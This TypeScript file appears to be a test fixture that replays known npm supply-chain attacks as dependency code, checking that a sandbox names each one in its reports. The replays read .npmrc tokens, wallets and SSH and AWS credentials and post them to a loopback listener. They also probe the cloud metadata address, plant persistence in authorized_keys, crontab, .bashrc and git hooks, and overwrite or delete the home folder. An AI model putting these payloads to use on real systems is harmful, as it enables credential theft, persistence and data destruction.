// What poisoned packages did when they ran, as the code of a dependency. Hosts are a listener on loopback, payloads are
// writes to canaries. `at` names them: home, project, port, token.

export type Replay = {
  readonly name: string;
  /** The body of an async function of `at`. */
  readonly code: string;
  /** What reports must name: as it is refused under a manifest, and refused or proposed while learning. */
  readonly named: readonly RegExp[];
};

const ATTACKER = /(?:127\.0\.0\.1|localhost):\d+/;

export const replays: readonly Replay[] = [
  { name: "crossenv 2017: posts the environment", code: "await post(process.env);", named: [ATTACKER] },
  { name: "eslint-scope 2018: sends .npmrc's token", code: 'const token = read(at.home + "/.npmrc"); await post(token);', named: [ATTACKER, /\.npmrc/] },
  {
    name: "event-stream 2018: patches another package, sends wallets",
    code: `attempt(() => fs.appendFileSync(at.project + "/node_modules/other/index.js", at.token));
      await post(read(at.home + "/.config/wallet.json"));`,
    named: [ATTACKER, /node_modules\/other/, /wallet\.json/],
  },
  {
    name: "ua-parser-js 2021: a program from the network, started",
    code: `const miner = process.env.TMPDIR + "/miner";
      await post("give me the miner");
      attempt(() => { fs.copyFileSync(at.project + "/node_modules/neighbour/miner", miner); fs.chmodSync(miner, 0o755); });
      attempt(() => child.execFileSync(miner));`,
    named: [ATTACKER, /miner|new process/],
  },
  { name: "coa and rc 2021: a hidden shell", code: "attempt(() => child.execSync(`sh ${at.project}/node_modules/neighbour/miner`));", named: [/\bsh$|new process|^node$/] },
  {
    name: "node-ipc 2022: overwrites every file it finds",
    code: `await post("where am I");
      for (const name of fs.readdirSync(at.project)) attempt(() => fs.writeFileSync(at.project + "/" + name, "overwritten"));
      for (const name of [".bashrc", ".npmrc", ".config/wallet.json"]) attempt(() => fs.writeFileSync(at.home + "/" + name, "overwritten"));`,
    named: [ATTACKER, /\.bashrc/],
  },
  {
    name: "xz 2024 in npm form: a test file becomes an addon",
    code: `const file = process.env.TMPDIR + "/liblzma.node";
      fs.writeFileSync(file, fs.readFileSync(at.project + "/node_modules/neighbour/test.bin"));
      attempt(() => process.dlopen({ exports: {} }, file));`,
    named: [/liblzma/],
  },
  { name: "solana web3.js 2024: keys in headers", code: 'await post("", { "x-amz-cf-id": Buffer.from(String(read(at.home + "/.config/wallet.json"))).toString("hex") });', named: [ATTACKER, /wallet\.json/] },
  {
    name: "rand-user-agent 2025: a remote shell from HOME",
    code: `attempt(() => { fs.mkdirSync(at.home + "/.node_modules"); fs.writeFileSync(at.home + "/.node_modules/index.js", at.token); });
      await post("shell");`,
    named: [ATTACKER, /\.node_modules/],
  },
  {
    name: "nx 2025: AI tools look for secrets, .bashrc",
    code: `for (const tool of ["claude", "gemini"]) attempt(() => child.execFileSync(tool, ["--version"]));
      attempt(() => fs.appendFileSync(at.home + "/.bashrc", "shutdown"));`,
    named: [/claude|new process/, /\.bashrc/],
  },
  {
    name: "Shai-Hulud 2025: secrets, the metadata address, a workflow file",
    code: `const secrets = [".npmrc", ".aws/credentials", ".ssh/id_ed25519"].map((name) => read(at.home + "/" + name));
      await reach({ host: "169.254.169.254", port: 80 });
      attempt(() => { fs.mkdirSync(at.project + "/.github/workflows", { recursive: true }); fs.writeFileSync(at.project + "/.github/workflows/shai-hulud.yml", at.token); });
      await post(secrets);`,
    named: [ATTACKER, /credentials/, /id_ed25519/, /169\.254\.169\.254:80/, /\.github/],
  },
  {
    name: "Shai-Hulud 2025, second wave: docker.sock, wipes the home folder",
    code: `await reach({ path: at.home + "/docker.sock" });
      attempt(() => fs.rmSync(at.home, { recursive: true, force: true }));`,
    named: [/docker\.sock/],
  },
  {
    name: "axios 2026: erases itself, starts a program",
    code: `attempt(() => fs.writeFileSync(at.project + "/node_modules/neighbour/package.json", "{}"));
      await post(process.platform);
      attempt(() => child.execFileSync(at.project + "/node_modules/neighbour/miner"));`,
    named: [ATTACKER, /neighbour\/package\.json/, /miner|new process/],
  },
  {
    name: "TanStack 2026: other processes' memory, files planted in the project",
    code: `attempt(() => fs.readFileSync("/proc/" + at.victim + "/environ"));
      for (const [folder, name] of [[".claude", "settings.json"], [".vscode", "tasks.json"], [".husky", "pre-commit"]]) {
        attempt(() => { fs.mkdirSync(at.project + "/" + folder, { recursive: true }); fs.writeFileSync(at.project + "/" + folder + "/" + name, at.token); });
      }`,
    named: [/\.claude/, /\.vscode/],
  },
  {
    name: "typosquat: authorized_keys, crontab, git hooks",
    code: `for (const path of [at.home + "/.ssh/authorized_keys", "/var/spool/cron/crontabs/root", at.project + "/.git/hooks/pre-commit", at.project + "/.npmrc", at.project + "/.envrc"]) attempt(() => fs.appendFileSync(path, at.token));`,
    named: [/authorized_keys/, /\.git\/hooks/],
  },
];

/** The dependency's code: harmless, or with a replay in it. */
export function neighbour(at: object, code = ""): string {
  return `const fs = require("node:fs"), child = require("node:child_process"), http = require("node:http"), net = require("node:net");
    const at = ${JSON.stringify(at)};
    const attempt = (step) => { try { return step(); } catch (error) { return error.code; } };
    const read = (path) => attempt(() => fs.readFileSync(path, "latin1"));
    const post = (what, headers = {}) => new Promise((done) => {
      http.request({ host: "127.0.0.1", port: at.port, method: "POST", headers }, (answer) => answer.resume().on("end", done)).on("error", done).end(JSON.stringify(what));
    });
    const reach = (where) => new Promise((done) => {
      const socket = net.connect({ ...where, timeout: 500 }).on("connect", () => socket.end(at.token)).on("error", done).on("close", done).on("timeout", () => socket.destroy());
    });
    exports.greet = async () => { ${code}
      return "hello"; };`;
}
